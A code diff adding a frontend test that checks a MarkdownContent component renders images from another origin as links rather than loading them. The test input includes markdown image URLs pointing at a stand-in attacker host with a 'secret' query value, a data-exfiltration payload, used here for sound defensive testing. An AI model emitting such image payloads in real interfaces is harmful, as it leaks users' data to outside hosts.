@@ -62,6 +62,25 @@ describe("MarkdownContent: hostile input stays inert", () => {
     expect(container.querySelectorAll("a")).toHaveLength(0);
   });
 
+  it("offers images from another origin as links, so showing a message requests nothing from there", () => {
+    const { container } = renderWithI18n(
+      <MarkdownContent
+        content={"![secret](https://evil.test/p.png?q=secret) ![](//evil.test/x.png) ![local](/files/ok.png)"}
+      />,
+    );
+    const images = container.querySelectorAll("img");
+    expect(images).toHaveLength(1);
+    expect(images[0]?.getAttribute("src")).toBe("/files/ok.png");
+    const links = screen.getAllByTestId("markdown.remote-image");
+    expect(links.map((link) => link.getAttribute("href"))).toEqual([
+      "https://evil.test/p.png?q=secret",
+      "//evil.test/x.png",
+    ]);
+    expect(links[0]?.textContent).toContain("secret");
+    expect(links[1]?.textContent).toContain("//evil.test/x.png");
+    expect(links[0]?.getAttribute("rel")).toContain("noreferrer");
+  });
+
   it("renders KaTeX's untrusted commands as error text, not as links or attributes", () => {
     const { container } = renderWithI18n(<MarkdownContent content={HOSTILE} latex />);
     expect(container.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(7);
